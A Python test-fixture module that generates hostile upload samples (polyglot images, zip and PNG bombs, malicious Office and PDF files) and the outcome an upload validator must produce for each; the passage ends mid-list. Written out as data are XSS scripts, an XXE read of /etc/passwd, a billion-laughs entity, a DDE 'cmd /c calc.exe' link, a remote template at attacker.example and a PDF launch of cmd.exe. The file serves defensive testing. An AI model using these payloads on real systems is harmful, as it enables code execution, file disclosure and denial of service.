"""Hostile upload samples, built in code, each with the outcome validate_upload must produce.

Nothing binary is committed: every sample is generated from a seed or from first principles, so
the corpus can be read, reviewed and extended here. Used by the tests and by
benchmarks/uploads.py (which runs each sample in its own process to measure time and memory).
"""

import datetime
import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field

import openpyxl
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import ExifTags, Image, ImageDraw, PngImagePlugin, TiffImagePlugin
from pypdf import PdfReader, PdfWriter
from pypdf.generic import DecodedStreamObject, DictionaryObject, NameObject, TextStringObject

from uploads.validation import ALL_KINDS, MB, CleanUpload

# --- upload objects -----------------------------------------------------------------------------


class DeclaredSizeUpload:
    """An upload that only claims a size; reading it is a test failure."""

    def __init__(self, name: str, size: int) -> None:
        self.name = name
        self.size = size

    def read(self, *args: object) -> bytes:
        raise AssertionError("validate_upload read a file whose declared size is over the limit")

    def chunks(self, *args: object) -> Iterator[bytes]:
        raise AssertionError("validate_upload read a file whose declared size is over the limit")


class LyingUpload(SimpleUploadedFile):
    """An upload whose declared size is far smaller than its content."""

    def __init__(self, name: str, content: bytes, size: int) -> None:
        super().__init__(name, content)
        self.size = size


# --- builders: images ---------------------------------------------------------------------------


def image_bytes(fmt: str = "JPEG", size: tuple[int, int] = (64, 48), **save: object) -> bytes:
    """A small picture with some structure, so re-encoding is visible."""
    image = Image.new("RGB", size, (250, 250, 245))
    for x in range(0, size[0], 8):
        for y in range(size[1]):
            image.putpixel((x, y), (20, 40, 200))
    out = io.BytesIO()
    image.save(out, fmt, **save)
    return out.getvalue()


def jpeg_with_location() -> bytes:
    """A phone photo: camera make, model, serial, GPS at 新宿, XMP with GPS and a comment."""
    image = Image.new("RGB", (64, 48), "white")
    exif = image.getexif()
    exif[ExifTags.Base.Make] = "Apple"
    exif[ExifTags.Base.Model] = "iPhone 15 Pro"
    exif[ExifTags.Base.Orientation] = 6
    exif.get_ifd(ExifTags.IFD.Exif)[ExifTags.Base.BodySerialNumber] = "F2LXK0000000"
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    rational = TiffImagePlugin.IFDRational
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = (rational(35), rational(41), rational(22))
    gps[ExifTags.GPS.GPSLongitudeRef] = "E"
    gps[ExifTags.GPS.GPSLongitude] = (rational(139), rational(41), rational(30))
    xmp = (
        b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-'
        b'syntax-ns#"><rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/" '
        b'exif:GPSLatitude="35,41.37N"/></rdf:RDF></x:xmpmeta>'
    )
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif, xmp=xmp, comment=b"Yamada Taro")
    return out.getvalue()


def large_photo(width: int, height: int) -> bytes:
    """A phone-sized photo (smooth, so it stays under 10 MB) shot sideways: EXIF orientation 6."""
    image = Image.effect_noise((width // 8, height // 8), 60).resize((width, height)).convert("RGB")
    exif = image.getexif()
    exif[ExifTags.Base.Orientation] = 6
    out = io.BytesIO()
    image.save(out, "JPEG", quality=85, exif=exif)
    return out.getvalue()


def large_diagram(width: int, height: int) -> bytes:
    """A screenshot-like PNG: flat colours and lines, a few hundred kB however large."""
    image = Image.new("RGB", (width, height), "white")
    draw = ImageDraw.Draw(image)
    for x in range(0, width, 300):
        draw.line((x, 0, width - x, height), fill="navy", width=8)
    out = io.BytesIO()
    image.save(out, "PNG")
    return out.getvalue()


def _stored_size(low: int, high: int, portrait: bool) -> Callable[[CleanUpload, bytes], None]:
    def check(clean: CleanUpload, original: bytes) -> None:
        with Image.open(io.BytesIO(clean.content)) as image:
            assert low <= max(image.size) <= high, image.size
            assert (image.height > image.width) == portrait, image.size
            assert not image.getexif()

    return check


def png_html_polyglot() -> bytes:
    """A PNG that browsers sniffing for HTML would run: script in a text chunk and after IEND."""
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "<script>alert(document.cookie)</script>")
    png = image_bytes("PNG", pnginfo=info)
    return png + b"<html><body><script>alert(document.domain)</script></body></html>"


def jpeg_html_polyglot() -> bytes:
    """A JPEG with script in its comment segment and an HTML page after the end marker."""
    return image_bytes("JPEG", comment=b"<script>alert(1)</script>") + b"<html><script>x()</script>"


def png_bomb(width: int, height: int) -> bytes:
    """A single-colour 1-bit PNG written row by row, so building it needs no big buffer."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    compressor = zlib.compressobj(9)
    row = b"\x00" + b"\x00" * ((width + 7) // 8)
    body = bytearray()
    for _ in range(height):
        body += compressor.compress(row)
    body += compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", bytes(body))
        + chunk(b"IEND", b"")
    )


HEIC = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + bytes(random.Random(7).randbytes(400))
SVG = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" '
    b'height="10"><script>fetch("/admin/").then(r=>r.text()).then(alert)</script></svg>'
)
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
EXE = (
    b"MZ\x90\x00\x03"
    + b"\x00" * 59
    + b"This program cannot be run in DOS mode.\r\r\n$"
    + b"\x00" * 200
)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504


# --- builders: Office documents -----------------------------------------------------------------


def xlsx_bytes(*, creator: str = "山田太郎", hidden: bool = True) -> bytes:
    """A real workbook made with openpyxl: strings, numbers, a date and a hidden sheet."""
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = "訪問記録"
    sheet.append(["訪問日", "企業", "課題", "時間"])
    sheet.append([datetime.date(2025, 4, 10), "株式会社ミライ工業", "人材育成", 1.5])
    sheet.append([datetime.datetime(2025, 5, 8, 14, 30), "有限会社サクラ", "販路開拓", 2.0])
    if hidden:
        workbook.create_sheet("作業用")["A1"] = "内部メモ"
        workbook["作業用"].sheet_state = "hidden"
    workbook.properties.creator = creator
    workbook.properties.lastModifiedBy = "佐藤花子"
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def rezip(
    base: bytes,
    *,
    add: dict[str, bytes] | None = None,
    replace: dict[str, bytes] | None = None,
    names: Callable[[str], str] = lambda name: name,
) -> bytes:
    """Copy a zip, replacing and adding members (ZipInfo keeps hostile names verbatim)."""
    replace = replace or {}
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base)) as source, zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            data = replace.get(info.filename, source.read(info))
            target.writestr(zipfile.ZipInfo(names(info.filename)), data, zipfile.ZIP_DEFLATED)
        for name, data in (add or {}).items():
            target.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def zip_bomb_xlsx(member_size: int) -> bytes:
    """A valid workbook plus one sheet part of member_size zero bytes, streamed into the zip."""
    out = io.BytesIO(rezip(xlsx_bytes()))
    with zipfile.ZipFile(out, "a", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        info = zipfile.ZipInfo("xl/worksheets/sheet9.xml")
        info.compress_type = zipfile.ZIP_DEFLATED
        info.file_size = member_size
        with archive.open(info, "w") as sink:
            block = b"\x00" * MB
            for _ in range(member_size // MB):
                sink.write(block)
    return out.getvalue()


def many_entries_xlsx(count: int) -> bytes:
    return rezip(xlsx_bytes(), add={f"xl/media/image{i}.png": b"" for i in range(count)})


def xlsm_renamed() -> bytes:
    base = xlsx_bytes()
    with zipfile.ZipFile(io.BytesIO(base)) as archive:
        types = archive.read("[Content_Types].xml")
    types = types.replace(
        b"spreadsheetml.sheet.main+xml", b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    ).replace(
        b"</Types>",
        b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
    )
    return rezip(
        base,
        replace={"[Content_Types].xml": types},
        add={"xl/vbaProject.bin": OLE + b'Attribute VB_Name = "Module1"\nSub AutoOpen()'},
    )


def macro_content_type_only() -> bytes:
    base = xlsx_bytes()
    with zipfile.ZipFile(io.BytesIO(base)) as archive:
        types = archive.read("[Content_Types].xml")
    macro = b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    types = types.replace(
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml", macro
    )
    assert macro in types
    return rezip(base, replace={"[Content_Types].xml": types})


XXE_SHARED_STRINGS = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" '
    b'uniqueCount="1"><si><t>&xxe;</t></si></sst>'
)
BILLION_LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
        for i in range(1, 10)
    )
    + b']>\n<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&lol9;'
    b"</t></si></sst>"
)


DDE_LINK = (
    b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    b'<ddeLink ddeService="cmd" ddeTopic="/c calc.exe"><ddeItems><ddeItem name="_"/>'
    b"</ddeItems></ddeLink></externalLink>"
)
REMOTE_TEMPLATE = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/attachedTemplate" Target="https://attacker.example/t.dotm" '
    b'TargetMode="External"/></Relationships>'
)


def many_shared_strings(count: int) -> bytes:
    """A workbook whose shared-string table holds count short unique strings."""
    items = b"".join(b"<si><t>s%d</t></si>" % i for i in range(count))
    return with_shared_strings(
        b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        + items
        + b"</sst>"
    )


def undimensioned_sheet(rows: int) -> bytes:
    """A workbook whose first sheet has no <dimension>, as some exporters write it."""
    body = b"".join(
        b'<row r="%d"><c r="A%d"><v>%d</v></c></row>' % (i, i, i) for i in range(1, rows)
    )
    sheet = (
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        + body
        + b"</sheetData></worksheet>"
    )
    return rezip(xlsx_bytes(), replace={"xl/worksheets/sheet1.xml": sheet})


def docx_bytes(*, creator: str = "山田太郎", company: str = "株式会社ミライ工業") -> bytes:
    """A minimal Word document written by hand: two paragraphs and a one-row table."""
    w = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    parts = {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
            'officedocument.wordprocessingml.document.main+xml"/>'
            '<Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-'
            'package.core-properties+xml"/>'
            '<Override PartName="/docProps/app.xml" ContentType="application/vnd.openxmlformats-'
            'officedocument.extended-properties+xml"/></Types>'
        ),
        "_rels/.rels": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            'relationships/officeDocument" Target="word/document.xml"/>'
            '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/package/2006/'
            'relationships/metadata/core-properties" Target="docProps/core.xml"/>'
            '<Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            'relationships/extended-properties" Target="docProps/app.xml"/></Relationships>'
        ),
        "word/document.xml": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            f'<w:document xmlns:w="{w}"><w:body>'
            '<w:p><w:pPr><w:tabs><w:tab w:val="left" w:pos="720"/></w:tabs></w:pPr>'
            "<w:r><w:t>第1回 訪問報告</w:t></w:r></w:p>"
            '<w:p><w:r><w:t xml:space="preserve">経営課題の </w:t></w:r>'
            "<w:r><w:t>整理を行った。</w:t></w:r></w:p>"
            "<w:p/>"
            "<w:tbl><w:tr><w:tc><w:p><w:r><w:t>課題</w:t></w:r></w:p></w:tc>"
            "<w:tc><w:p><w:r><w:t>人材育成</w:t></w:r></w:p></w:tc></w:tr></w:tbl>"
            "</w:body></w:document>"
        ),
        "docProps/core.xml": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/'
            'core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/" '
            'xmlns:dcterms="http://purl.org/dc/terms/" '
            'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">'
            "<dc:title>訪問報告</dc:title>"
            f"<dc:creator>{creator}</dc:creator>"
            f"<cp:lastModifiedBy>{creator}</cp:lastModifiedBy>"
            '<dcterms:created xsi:type="dcterms:W3CDTF">2025-04-10T09:00:00Z</dcterms:created>'
            "</cp:coreProperties>"
        ),
        "docProps/app.xml": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-'
            f'properties"><Application>Microsoft Office Word</Application><Company>{company}'
            "</Company><Manager>鈴木一郎</Manager></Properties>"
        ),
    }
    return _zip({name: text.encode() for name, text in parts.items()})


REVIEWER, REVIEWER_ADDRESS = "高橋健一", "k.takahashi@maru7.example"
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_W15 = "http://schemas.microsoft.com/office/word/2012/wordml"


def docx_with_review() -> bytes:
    """docx_bytes with a comment, a tracked insertion, Word's people list and custom properties,
    each naming the reviewer."""
    base = docx_bytes()
    with zipfile.ZipFile(io.BytesIO(base)) as archive:
        document = archive.read("word/document.xml").decode()
    document = document.replace(
        "<w:p/>",
        f'<w:p><w:ins w:id="1" w:author="{REVIEWER}" w:date="2025-04-11T10:00:00Z">'
        "<w:r><w:t>追記した一文。</w:t></w:r></w:ins></w:p>",
    )
    comments = (
        f'<w:comments xmlns:w="{_W}"><w:comment w:id="0" w:author="{REVIEWER}" '
        "w:initials='高' w:date=\"2025-04-11T10:00:00Z\"><w:p><w:r><w:t>数字を確認</w:t></w:r>"
        "</w:p></w:comment></w:comments>"
    )
    people = (
        f'<w15:people xmlns:w15="{_W15}"><w15:person w15:author="{REVIEWER}">'
        f'<w15:presenceInfo w15:providerId="AD" w15:userId="{REVIEWER_ADDRESS}"/>'
        "</w15:person></w15:people>"
    )
    custom = (
        '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-'
        'properties" xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes">'
        '<property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="2" name="担当者">'
        f"<vt:lpwstr>{REVIEWER}</vt:lpwstr></property></Properties>"
    )
    return rezip(
        base,
        replace={"word/document.xml": document.encode()},
        add={
            "word/comments.xml": comments.encode(),
            "word/people.xml": people.encode(),
            "docProps/custom.xml": custom.encode(),
        },
    )


def xlsx_with_comment() -> bytes:
    """A workbook made with openpyxl whose cell comment carries the reviewer as its author."""
    workbook = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(hidden=False)))
    workbook.active["C2"].comment = openpyxl.comments.Comment("単価を確認", REVIEWER)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def pptx_with_comment_authors() -> bytes:
    """pptx_bytes with the classic and the modern list of comment authors."""
    p = "http://schemas.openxmlformats.org/presentationml/2006/main"
    p188 = "http://schemas.microsoft.com/office/powerpoint/2018/8/main"
    return rezip(
        pptx_bytes(),
        add={
            "ppt/commentAuthors.xml": (
                f'<p:cmAuthorLst xmlns:p="{p}"><p:cmAuthor id="0" name="{REVIEWER}" '
                'initials="KT" lastIdx="1" clrIdx="0"/></p:cmAuthorLst>'
            ).encode(),
            "ppt/authors.xml": (
                f'<p188:authorLst xmlns:p188="{p188}"><p188:author id="{{6A1B}}" '
                f'name="{REVIEWER}" initials="KT" userId="{REVIEWER_ADDRESS}" providerId="AD"/>'
                "</p188:authorLst>"
            ).encode(),
        },
    )


def _reviewers_removed(clean: CleanUpload, original: bytes) -> None:
    def parts(content: bytes) -> dict[str, bytes]:
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            return {name: archive.read(name) for name in archive.namelist()}

    assert REVIEWER.encode() in b"".join(parts(original).values())
    cleaned = parts(clean.content)
    for name, data in cleaned.items():
        for personal in (REVIEWER, REVIEWER_ADDRESS, "k.takahashi"):
            assert personal.encode() not in data, (name, personal)
    text = b"".join(cleaned.values())
    # What was written stays: the comment, the tracked insertion, the slides and cells.
    assert any(kept.encode() in text for kept in ("数字を確認", "単価を確認", "支援の流れ"))


def pptx_bytes() -> bytes:
    """A bare-bones presentation: two slides, listed in reverse file order in sldIdLst."""
    p = "http://schemas.openxmlformats.org/presentationml/2006/main"
    a = "http://schemas.openxmlformats.org/drawingml/2006/main"
    r = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"

    def slide(*paragraphs: str) -> bytes:
        body = "".join(f"<a:p><a:r><a:t>{text}</a:t></a:r></a:p>" for text in paragraphs)
        return (
            f'<p:sld xmlns:p="{p}" xmlns:a="{a}"><p:cSld><p:spTree><p:sp><p:txBody>{body}'
            "</p:txBody></p:sp></p:spTree></p:cSld></p:sld>"
        ).encode()

    return _zip(
        {
            "[Content_Types].xml": (
                b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                b'<Default Extension="xml" ContentType="application/xml"/>'
                b'<Override PartName="/ppt/presentation.xml" ContentType="application/vnd.'
                b'openxmlformats-officedocument.presentationml.presentation.main+xml"/></Types>'
            ),
            "ppt/presentation.xml": (
                f'<p:presentation xmlns:p="{p}" xmlns:r="{r}"><p:sldIdLst>'
                '<p:sldId id="256" r:id="rId3"/><p:sldId id="257" r:id="rId2"/>'
                "</p:sldIdLst></p:presentation>"
            ).encode(),
            "ppt/_rels/presentation.xml.rels": (
                b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                b'<Relationship Id="rId2" Type="slide" Target="slides/slide1.xml"/>'
                b'<Relationship Id="rId3" Type="slide" Target="slides/slide2.xml"/>'
                b"</Relationships>"
            ),
            "ppt/slides/slide1.xml": slide("二枚目", "まとめ"),
            "ppt/slides/slide2.xml": slide("一枚目", "支援の流れ"),
        }
    )


def _zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def with_shared_strings(xml: bytes) -> bytes:
    """A workbook whose sharedStrings part (declared and related, so Excel reads it) is xml."""
    base = xlsx_bytes()
    with zipfile.ZipFile(io.BytesIO(base)) as archive:
        assert "xl/sharedStrings.xml" not in archive.namelist()  # openpyxl writes inline strings
        types = archive.read("[Content_Types].xml")
        rels = archive.read("xl/_rels/workbook.xml.rels")
    types = types.replace(
        b"</Types>",
        b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-'
        b'officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
    )
    rels = rels.replace(
        b"</Relationships>",
        b'<Relationship Id="rIdSST" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>',
    )
    return rezip(
        base,
        replace={"[Content_Types].xml": types, "xl/_rels/workbook.xml.rels": rels},
        add={"xl/sharedStrings.xml": xml},
    )


# --- builders: PDF ------------------------------------------------------------------------------


def pdf_bytes(*, pages: int = 1, author: str | None = None, xmp: bytes | None = None) -> bytes:
    """A pypdf-made PDF with a black rectangle per page, optionally carrying personal metadata."""
    writer = PdfWriter()
    for _ in range(pages):
        page = writer.add_blank_page(width=300, height=200)
        content = DecodedStreamObject()
        content.set_data(b"0 0 0 rg 20 20 260 160 re f")
        page[NameObject("/Contents")] = writer._add_object(content)
    if author:
        writer.add_metadata({"/Author": author, "/Creator": "Word", "/Producer": "Acrobat"})
    if xmp:
        stream = DecodedStreamObject()
        stream.set_data(xmp)
        stream[NameObject("/Type")] = NameObject("/Metadata")
        stream[NameObject("/Subtype")] = NameObject("/XML")
        writer.root_object[NameObject("/Metadata")] = writer._add_object(stream)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_with_open_action(action: dict[str, object]) -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf_bytes())))
    writer.root_object[NameObject("/OpenAction")] = DictionaryObject(
        {
            NameObject(key): NameObject(value)
            if str(value).startswith("/")
            else TextStringObject(value)
            for key, value in action.items()
        }
    )
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_with_attachment() -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf_bytes())))
    writer.add_attachment("請求書.exe", EXE)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_encrypted() -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf_bytes())))
    writer.encrypt(user_password="secret", owner_password="owner", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def raw_pdf(objects: list[bytes]) -> bytes:
    """Assemble numbered objects into a PDF with a correct xref table (object 1 is the root)."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def pdf_obfuscated_javascript() -> bytes:
    """JavaScript with its names hex-escaped (/J#61vaScript), which a byte search would miss."""
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] >>",
            b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>",
        ]
    )


def pdf_launch() -> bytes:
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (cmd.exe) >> >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] >>",
        ]
    )


XMP_WITH_AUTHOR = (
    b'<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/">'
    b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description '
    b'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator><rdf:Seq><rdf:li>Yamada Taro'
    b"</rdf:li></rdf:Seq></dc:creator></rdf:Description></rdf:RDF></x:xmpmeta>"
    b'<?xpacket end="w"?>'
)


# --- checks for neutralised samples -------------------------------------------------------------


def _no_active_markup(clean: CleanUpload, original: bytes) -> None:
    assert clean.content != original
    lowered = clean.content.lower()
    assert b"<html" not in lowered and b"<script" not in lowered
    with Image.open(io.BytesIO(clean.content)) as image:
        image.load()
        with Image.open(io.BytesIO(original)) as before:
            assert image.size == before.size


def _no_location(clean: CleanUpload, original: bytes) -> None:
    with Image.open(io.BytesIO(clean.content)) as image:
        exif = image.getexif()
        assert len(exif.get_ifd(ExifTags.IFD.GPSInfo)) == 0
        assert ExifTags.Base.Make not in exif and ExifTags.Base.Model not in exif
        assert len(exif.get_ifd(ExifTags.IFD.Exif)) == 0
        assert not {"exif", "xmp", "comment", "icc_profile"} & set(image.info)
        assert image.size == (
            48,
            64,
        )  # turned upright by the orientation tag, which is then dropped
    for marker in (b"Apple", b"iPhone", b"F2LXK", b"GPS", b"Yamada", b"xmpmeta"):
        assert marker not in clean.content


def _office_properties_emptied(clean: CleanUpload, original: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(clean.content)) as archive:
        core = archive.read("docProps/core.xml").decode()
        app = archive.read("docProps/app.xml").decode()
    for personal in ("山田太郎", "佐藤花子", "株式会社ミライ工業", "鈴木一郎"):
        assert personal not in core and personal not in app
    assert "訪問報告" in core  # the title is not personal and stays


def _pdf_metadata_removed(clean: CleanUpload, original: bytes) -> None:
    assert b"Yamada" in original
    assert b"Yamada" not in clean.content
    reader = PdfReader(io.BytesIO(clean.content))
    assert reader.metadata is None
    assert "/Metadata" not in reader.trailer["/Root"]
    assert len(reader.pages) == 1


def _named(expected: str) -> Callable[[CleanUpload, bytes], None]:
    def check(clean: CleanUpload, original: bytes) -> None:
        assert clean.name == expected, clean.name

    return check


def _short_name(clean: CleanUpload, original: bytes) -> None:
    assert len(clean.name) == 100 and clean.name.endswith(".pdf"), clean.name


# --- the corpus ---------------------------------------------------------------------------------

REJECTED, NEUTRALISED = "rejected", "neutralised"


@dataclass(frozen=True)
class Sample:
    """One hostile upload and what validate_upload must do with it."""

    id: str
    filename: str
    build: Callable[[], bytes]
    expect: str
    message: str = ""  # part of the Japanese error message, for rejected samples
    check: Callable[[CleanUpload, bytes], None] | None = None
    declared_size: int | None = None  # only claims this size; the bytes are never read
    lie_about_size: bool = False  # claims 100 bytes whatever the content
    kinds: frozenset[str] = field(default=ALL_KINDS)
    archive: bool = False  # counts toward the "archive checks under 1 s" figure

    def upload(self, data: bytes) -> object:
        if self.declared_size is not None:
            return DeclaredSizeUpload(self.filename, self.declared_size)
        if self.lie_about_size:
            return LyingUpload(self.filename, data, size=100)
        return SimpleUploadedFile(self.filename, data)


SAMPLES: list[Sample] = [
    # Content that does not match its extension.
    Sample(
        "html-as-jpg",
        "photo.jpg",
        lambda: HTML,
        REJECTED,
        "拡張子（.jpg）と一致しません（中身は HTML",
    ),
    Sample(
        "pdf-as-xlsx",
        "集計.xlsx",
        pdf_bytes,
        REJECTED,
        "ファイルの中身が拡張子（.xlsx）と一致しません",
    ),
    Sample("docx-as-xlsx", "集計.xlsx", docx_bytes, REJECTED, "中身は Word 文書", archive=True),
    Sample(
        "plain-zip-as-docx",
        "議事録.docx",
        lambda: _zip({"a.txt": b"x"}),
        REJECTED,
        "中身は ZIP",
        archive=True,
    ),
    Sample("xls-ole-as-xlsx", "古い.xlsx", lambda: OLE, REJECTED, "古い形式の Office ファイル"),
    Sample("exe-as-pdf", "請求書.pdf", lambda: EXE, REJECTED, "中身は 実行ファイル"),
    Sample(
        "svg-script",
        "logo.svg",
        lambda: SVG,
        REJECTED,
        "この種類のファイル（.svg）は登録できません",
    ),
    Sample("svg-as-png", "logo.png", lambda: SVG, REJECTED, "中身は SVG 画像"),
    Sample("gif-as-png", "anim.png", lambda: image_bytes("GIF"), REJECTED, "中身は GIF 画像"),
    Sample("html-extension", "page.html", lambda: HTML, REJECTED, "（.html）は登録できません"),
    Sample(
        "xlsm-extension", "集計.xlsm", xlsm_renamed, REJECTED, "マクロを含む形式のファイル（.xlsm）"
    ),
    Sample("heic", "IMG_0001.HEIC", lambda: HEIC, REJECTED, "JPEG に変換してから"),
    Sample("heic-as-jpg", "IMG_0001.jpg", lambda: HEIC, REJECTED, "JPEG に変換してから"),
    Sample("empty", "空.pdf", lambda: b"", REJECTED, "ファイルが空です"),
    # Images: polyglots, metadata, bombs, size.
    Sample(
        "png-html-polyglot",
        "whiteboard.png",
        png_html_polyglot,
        NEUTRALISED,
        check=_no_active_markup,
    ),
    Sample(
        "jpeg-html-polyglot",
        "whiteboard.jpg",
        jpeg_html_polyglot,
        NEUTRALISED,
        check=_no_active_markup,
    ),
    Sample("jpeg-gps-exif", "IMG_0002.JPG", jpeg_with_location, NEUTRALISED, check=_no_location),
    Sample(
        "png-bomb-20000",
        "bomb.png",
        lambda: png_bomb(20_000, 20_000),
        REJECTED,
        "画素数が多すぎます（20,000×20,000）",
    ),
    Sample(
        "png-49mp",
        "large.png",
        lambda: png_bomb(7_000, 7_000),
        REJECTED,
        "画素数が多すぎます（7,000×7,000）",
    ),
    # A 40 MP phone photo decodes at half scale: stored upright, 3,648 px on its long side.
    Sample(
        "photo-40mp",
        "ホワイトボード.jpg",
        lambda: large_photo(7296, 5472),
        NEUTRALISED,
        check=_stored_size(2048, 4096, portrait=True),
    ),
    Sample(
        "png-24mp-diagram",
        "業務フロー図.png",
        lambda: large_diagram(6000, 4000),
        NEUTRALISED,
        check=_stored_size(6000, 6000, portrait=False),
    ),
    Sample(
        "png-30mp-diagram",
        "大きな図.png",
        lambda: large_diagram(6708, 4472),
        REJECTED,
        "2,400 万画素以下",
    ),
    Sample(
        "image-over-10mb",
        "huge.jpg",
